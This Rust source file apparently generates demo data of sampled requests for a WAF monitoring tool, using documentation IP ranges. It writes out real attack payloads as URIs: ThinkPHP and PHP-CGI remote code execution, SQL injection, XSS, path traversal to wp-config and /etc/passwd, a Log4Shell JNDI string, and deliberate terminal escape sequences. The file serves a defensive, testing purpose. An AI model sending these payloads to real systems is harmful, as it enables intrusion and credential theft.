//! Sampled requests for one WAF rule: requests of the kind the rule catches (xmlrpc.php POSTs,
//! SQLi query strings, wp-login probes, scanners), from documentation address ranges.
//!
//! URIs are raw remote text, as a real source delivers them: some deliberately carry terminal
//! escape sequences. They are NOT sanitised here — the front ends must neutralise them, and the
//! demo is where that gets exercised.

use super::dynamics::Changes;
use super::waf::{Category, bucket, matches};
use super::{DemoWorld, rng_for};
use crate::model::{RuleKind, RuleSamples, SampledRequest};
use crate::source::{ErrorKind, SourceError};
use rand::RngExt;
use rand::rngs::Xoshiro256PlusPlus;

/// AWS returns at most what it sampled; the panel shows a screenful.
const MAX_SAMPLES: u64 = 20;
/// Samples come from the last few minutes.
const SAMPLE_MINUTES: i64 = 3;

/// An OSC title change: harmless once neutralised, a retitled terminal if not.
const HOSTILE_OSC: &str = "\x1b]0;pwned\x07";
/// Clear screen.
const HOSTILE_CLEAR: &str = "\x1b[2J";

const ATTACKER_COUNTRIES: &[&str] = &[
    "CN", "RU", "US", "NL", "VN", "BR", "DE", "IN", "KR", "SG", "UA", "FR",
];

fn pick<'a>(rng: &mut Xoshiro256PlusPlus, items: &[&'a str]) -> &'a str {
    items[rng.random_range(0..items.len())]
}

/// An address from one of the three documentation ranges.
fn doc_ip(rng: &mut Xoshiro256PlusPlus) -> String {
    let net = pick(rng, &["192.0.2", "198.51.100", "203.0.113"]);
    format!("{net}.{}", rng.random_range(1..255u8))
}

/// (client IP, country, method, URI) of the `i`-th sample of a rule of this category.
fn request(
    category: Category,
    i: u64,
    rng: &mut Xoshiro256PlusPlus,
) -> (String, String, String, String) {
    use Category::*;
    let ip = doc_ip(rng);
    let country = pick(rng, ATTACKER_COUNTRIES).to_string();
    let post_or_get = if rng.random_bool(0.6) { "POST" } else { "GET" };
    let (ip, country, method, uri): (String, String, &str, String) = match category {
        Xmlrpc if i == 1 => (ip, country, "POST", format!("/xmlrpc.php?{HOSTILE_OSC}")),
        Xmlrpc => {
            let uri = pick(
                rng,
                &[
                    "/xmlrpc.php",
                    "/xmlrpc.php",
                    "/xmlrpc.php?rsd",
                    "//xmlrpc.php",
                ],
            );
            (
                ip,
                country,
                if uri.ends_with("rsd") { "GET" } else { "POST" },
                uri.into(),
            )
        }
        WpAdmin => {
            let uri = pick(
                rng,
                &[
                    "/wp-login.php",
                    "/wp-admin/",
                    "/wp-admin/install.php",
                    "/wp-login.php?action=register",
                    "/wp-admin/admin-ajax.php",
                ],
            );
            (ip, country, post_or_get, uri.into())
        }
        IpReputation => {
            let uri = pick(
                rng,
                &[
                    "/",
                    "/?p=42",
                    "/feed/",
                    "/wp-content/uploads/2022/02/taltal.jpg",
                    "/?s=%E3%81%82",
                ],
            );
            (ip, country, "GET", uri.into())
        }
        Php => {
            let uri = pick(
                rng,
                &[
                    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                    "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                    "/wp-content/plugins/hello.php?cmd=system('id')",
                    "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
                ],
            );
            (ip, country, post_or_get, uri.into())
        }
        WordPress => {
            let uri = pick(
                rng,
                &[
                    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                    "/?author=1",
                    "/wp-json/wp/v2/users",
                    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
                    "/wp-config.php.bak",
                ],
            );
            (ip, country, "GET", uri.into())
        }
        Sqli if i == 2 => (
            ip,
            country,
            "GET",
            format!("/mt/mt-search.cgi?search={HOSTILE_CLEAR}%27%20OR%201=1--"),
        ),
        Sqli => {
            let uri = pick(
                rng,
                &[
                    "/mt/mt-search.cgi?search=1%27%20OR%20%271%27%3D%271",
                    "/?id=1%20UNION%20SELECT%20author_name,author_password%20FROM%20mt_author--",
                    "/news/index.html?page=1;WAITFOR%20DELAY%20%270:0:5%27--",
                    "/mt/mt-search.cgi?IncludeBlogs=1%20AND%20SLEEP(5)",
                ],
            );
            (ip, country, "GET", uri.into())
        }
        Xss => {
            let uri = pick(
                rng,
                &[
                    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
                    "/mt/mt-comments.cgi",
                    "/search/?q=<svg/onload=alert(document.domain)>",
                    "/contact/?name=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
                ],
            );
            (
                ip,
                country,
                if uri.contains("comments") {
                    "POST"
                } else {
                    "GET"
                },
                uri.into(),
            )
        }
        CmsOffice => {
            let uri = pick(
                rng,
                &[
                    "/mt/mt.cgi?__mode=dashboard",
                    "/mt/mt.cgi",
                    "/mt/mt.cgi?__mode=list&_type=entry&blog_id=1",
                    "/mt-static/js/mt_core_compact.js",
                ],
            );
            let office = pick(rng, &["203.0.113.10", "203.0.113.11"]);
            (
                office.into(),
                "JP".into(),
                if uri == "/mt/mt.cgi" { "POST" } else { "GET" },
                uri.into(),
            )
        }
        CmsOutside => {
            let uri = pick(
                rng,
                &[
                    "/mt/mt.cgi",
                    "/mt/mt-xmlrpc.cgi",
                    "/mt/mt-upgrade.cgi",
                    "/mt/mt.cgi?__mode=view&_type=author",
                ],
            );
            (ip, country, post_or_get, uri.into())
        }
        Terminal => {
            let uri = pick(
                rng,
                &[
                    "/handy/api/v1/orders",
                    "/handy/api/v1/shipments",
                    "/handy/api/v1/master?since=0600",
                ],
            );
            let terminal = format!("198.51.100.{}", rng.random_range(1..255u8));
            (
                terminal,
                "JP".into(),
                if uri.contains("master") {
                    "GET"
                } else {
                    "POST"
                },
                uri.into(),
            )
        }
        CommonCounted => {
            let uri = pick(
                rng,
                &[
                    "/member/login.cgi",
                    "/member/download.cgi?file=../../../../etc/passwd",
                    "/cgi-bin/test-cgi",
                    "/member/search.cgi?q=<script>",
                ],
            );
            (ip, country, post_or_get, uri.into())
        }
        BadInputs => {
            let uri = pick(
                rng,
                &[
                    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%3A1389%2Fa%7D",
                    "/member/%2e%2e/%2e%2e/etc/passwd",
                    "/actuator/env",
                ],
            );
            (ip, country, "GET", uri.into())
        }
        RateLimit => (
            "203.0.113.45".into(),
            "VN".into(),
            "POST",
            "/member/login.cgi".into(),
        ),
    };
    (ip, country, method.to_string(), uri)
}

/// What WAF reports as a sampled request's action, drawn in the proportions the counts use.
fn action(kind: &RuleKind, rng: &mut Xoshiro256PlusPlus) -> String {
    let per_100 = bucket(kind, 100);
    let roll = rng.random_range(0..100u64);
    if roll < per_100.allowed {
        "ALLOW"
    } else if roll < per_100.allowed + per_100.counted {
        "COUNT"
    } else {
        "BLOCK"
    }
    .to_string()
}

impl DemoWorld {
    /// Up to 20 requests the rule matched in the last 3 minutes, newest first.
    pub(super) fn samples_at(
        &self,
        changes: &Changes,
        acl_id: &str,
        rule: &str,
        now_ms: i64,
    ) -> Result<RuleSamples, SourceError> {
        let spec = self
            .estate
            .acls
            .iter()
            .find(|a| a.acl.id == acl_id)
            .ok_or_else(|| {
                SourceError::new(ErrorKind::NotFound, format!("no web ACL with id {acl_id}"))
            })?;
        let (waf_rule, traffic) = spec.rule(rule).ok_or_else(|| {
            SourceError::new(
                ErrorKind::NotFound,
                format!("web ACL {} has no rule named {rule}", spec.acl.name),
            )
        })?;
        let current = now_ms.div_euclid(60_000);
        let first = current - SAMPLE_MINUTES + 1;
        let recent: u64 = (first..=current)
            .map(|m| matches(self.seed, acl_id, rule, traffic, m))
            .sum();
        let mut rng = rng_for(self.seed, &format!("samples/{acl_id}/{rule}"), current);
        let span = (now_ms - first * 60_000 + 1).max(1);
        let mut requests: Vec<SampledRequest> = (0..recent.min(MAX_SAMPLES))
            .map(|i| {
                let t_ms = first * 60_000 + (rng.random_range(0.0..1.0) * span as f64) as i64;
                let (client_ip, country, method, uri) = request(traffic.category, i, &mut rng);
                let kind = self.rule_kind_at(changes, acl_id, waf_rule, t_ms);
                SampledRequest {
                    time: self.instant(t_ms),
                    client_ip,
                    country,
                    method,
                    uri,
                    action: action(kind, &mut rng),
                }
            })
            .collect();
        requests.sort_by_key(|r| std::cmp::Reverse(r.time));
        Ok(RuleSamples {
            acl_id: acl_id.to_string(),
            rule: rule.to_string(),
            requests,
        })
    }
}
